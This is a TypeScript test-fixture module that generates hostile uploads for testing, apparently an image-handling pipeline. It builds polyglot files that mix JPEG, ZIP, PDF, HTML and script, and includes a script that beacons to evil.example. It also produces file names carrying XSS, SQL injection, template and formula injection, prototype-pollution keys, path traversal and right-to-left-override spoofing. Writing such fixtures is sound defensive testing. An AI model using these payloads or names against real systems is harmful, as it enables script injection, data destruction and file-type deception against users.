import { deflateRawSync } from 'node:zlib';
import { hostile, type HostileFile } from './hostile-file.ts';

const CODE = "self.hacked=1;fetch('https://evil.example/ran')";
const HTML = `<html><script>${CODE}</script><img src=x onerror="${CODE}"></html>`;
const PDF = `%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`;

/** A stored zip with one file and its end record: enough for a program that looks for a zip. */
function zip(): Buffer {
  const name = Buffer.from('a.txt');
  const data = deflateRawSync(Buffer.alloc(1e6));
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(1e6, 22);
  local.writeUInt16LE(name.length, 26);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50);
  return Buffer.concat([local, name, data, end]);
}

/** Files that are two things at once: whoever guesses wrong runs or unpacks them. */
export function polyglots(sound: ReadonlyMap<string, Buffer>): HostileFile[] {
  const part = (name: string) => sound.get(name) ?? Buffer.alloc(0);
  const jpeg = part('baseline.jpg');
  const comment = (text: string) => {
    const segment = Buffer.from(`\xff\xfe\0\0${text}`, 'latin1');
    segment.writeUInt16BE(text.length + 2, 2);
    return Buffer.concat([jpeg.subarray(0, 2), segment, jpeg.subarray(2)]);
  };
  const script = Buffer.from(`GIF89a/*${'\0'.repeat(20)}*/=0;${CODE}`, 'latin1');
  const pairs: [string, Buffer][] = [
    ['jpeg-and-zip.jpg', Buffer.concat([jpeg, zip()])],
    ['zip-and-jpeg.jpg', Buffer.concat([zip(), jpeg])],
    ['gif-and-script.gif', script],
    ['gif-and-script.js', script],
    ['pdf-and-jpeg.jpg', Buffer.concat([Buffer.from(PDF), jpeg])],
    ['jpeg-with-pdf.pdf', comment(PDF)],
    ['jpeg-with-html.html', comment(HTML)],
    ['jpeg-with-html.jpg', comment(HTML)],
    ['jpeg-then-html.jpg', Buffer.concat([jpeg, Buffer.from(HTML)])],
    ['png-then-html.png', Buffer.concat([part('rgb.png'), Buffer.from(HTML)])],
    ['png-then-png.png', Buffer.concat([part('rgb.png'), part('alpha.png')])],
    ['webp-then-zip.webp', Buffer.concat([part('lossy.webp'), zip()])],
    ['bmp-and-script.bmp', Buffer.concat([Buffer.from(`BM/*${'\0'.repeat(60)}*/;${CODE}`, 'latin1')])],
    ['html.jpg', Buffer.from(HTML)],
    ['pdf.png', Buffer.from(PDF)],
    ['zip.png', zip()],
    ['script.png', Buffer.from(CODE)],
    ['elf.jpg', Buffer.from('\x7fELF\x02\x01\x01', 'latin1')],
    ['exe.gif', Buffer.from('MZ\x90\0', 'latin1')],
    ['wasm.webp', Buffer.from('\0asm\x01\0\0\0', 'latin1')],
  ];
  return pairs.map(([name, bytes]) => hostile(`polyglot-${name}`, bytes));
}

/** Sound pictures under names that are not theirs, and under names that are code to someone. */
export function oddNames(sound: ReadonlyMap<string, Buffer>): HostileFile[] {
  const names = [
    '<img src=x onerror=hacked=1>.jpg',
    "'; DROP TABLE pictures;--.png",
    '"quoted".jpg',
    '${hacked=1}.jpg',
    '{{hacked=1}}.jpg',
    '=HYPERLINK(evil).jpg',
    '__proto__',
    '__proto__.jpg',
    'constructor.jpg',
    '..%2f..%2fetc%2fpasswd.jpg',
    '\u202Egpj.exe',
    '\u200B.jpg',
    '🏳️‍🌈🧑🏽‍🚀.jpg',
    `${'long'.repeat(60)}.jpg`,
    'no-extension',
    '.jpg',
    'a.jpg.exe',
    'ünï çödé  name.jpg',
    'עברית.jpg',
    '\n newline.jpg',
  ];
  const bytes = [...sound.values()];
  const odd = names.map((name, index) => hostile(name, bytes[index % bytes.length] ?? ''));
  const others = [...sound].map(([name, content], index) => {
    const ending = ['svg', 'jpg', 'heic', 'png', 'txt', 'gif'][index % 6] ?? 'jpg';
    return hostile(`really-${name}.${ending}`, content);
  });
  return [...odd, ...others];
}
